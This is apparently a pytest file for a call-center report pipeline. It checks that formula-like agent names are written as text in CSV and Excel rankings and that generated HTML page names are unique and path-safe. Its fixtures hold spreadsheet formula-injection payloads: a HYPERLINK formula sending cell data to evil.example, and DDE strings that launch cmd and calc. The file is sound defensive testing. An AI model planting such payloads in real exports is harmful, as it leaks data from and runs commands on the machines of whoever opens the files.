"""Report outputs that cannot be turned against their readers: a text cell that looks like a formula
is written as text in ranking.csv / money_lines.csv / ranking.xlsx, and every id has its own page."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from fixtures.reports.monthdata import build as build_month
from openpyxl import load_workbook

from pipeline.cli import main as callqa
from pipeline.reports.render import page_name
from pipeline.reports.tables import csv_cell, is_formula_like
from pipeline.store import Store

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
EVIL_NAMES = {"A01": EVIL, "A02": "+cmd|' /C calc'!A0", "A03": "@SUM(1+1)*cmd|' /C calc'!A0", "A04": "-2+3"}


def test_formula_like_texts() -> None:
    for text in [*EVIL_NAMES.values(), "＝1+1", "\t=1"]:
        assert is_formula_like(text), text
        assert csv_cell(text) == f"'{text}"
    for value in ("张三", "-20", "+130", "3.5", -20, 1.5, None, "A-01"):
        assert not is_formula_like(value), value
        assert csv_cell(value) == value


def test_ranking_tables_write_formula_like_names_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = tmp_path / "qa.duckdb"
    build_month(db, tmp_path)
    with Store(db) as store:
        for agent, name in EVIL_NAMES.items():
            store.db.execute("UPDATE calls SET agent_name = ? WHERE agent_id = ?", [name, agent])
    monkeypatch.chdir(tmp_path)
    assert callqa(["report", "--month", "2026-11", "--db", str(db), "--no-audio"]) == 0
    out = tmp_path / "reports" / "2026-11"

    with (out / "ranking.csv").open(encoding="utf-8-sig", newline="") as handle:
        names = {row["工号"]: row["姓名"] for row in csv.DictReader(handle)}
    assert {a: names[a] for a in EVIL_NAMES} == {a: f"'{n}" for a, n in EVIL_NAMES.items()}
    money = (out / "money_lines.csv").read_text(encoding="utf-8-sig")
    assert f"'{EVIL}".replace('"', '""') in money and "\n=" not in money and ",=" not in money

    book = load_workbook(out / "ranking.xlsx")
    sheet = book["排名与奖惩"]
    header = [c.value for c in sheet[1]]
    cells = {row[1].value: row[header.index("姓名")] for row in sheet.iter_rows(min_row=2)}
    for agent, name in EVIL_NAMES.items():
        assert cells[agent].value == name and cells[agent].data_type == "s", agent
    with zipfile.ZipFile(out / "ranking.xlsx") as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml for xml in sheets)  # not one formula in the workbook


def test_page_names_are_unique_per_id_even_ignoring_case() -> None:
    hashed = page_name("张三").removesuffix(".html")
    ids = [
        "张三",
        hashed,
        hashed.upper(),
        "a01",
        "A01",
        "A01.",
        "con",
        "CON",
        "x/../y",
        "x_.._y",
        "HX20261101-0001",
    ]
    names = [page_name(i) for i in ids]
    assert len({n.lower() for n in names}) == len(ids), names
    assert page_name("HX20261101-0001") == "HX20261101-0001.html" and page_name("A03") == "A03.html"
    for name in names:
        assert (
            "/" not in name and not name.startswith(".") and name.split(".")[0].upper() not in ("CON", "NUL")
        )
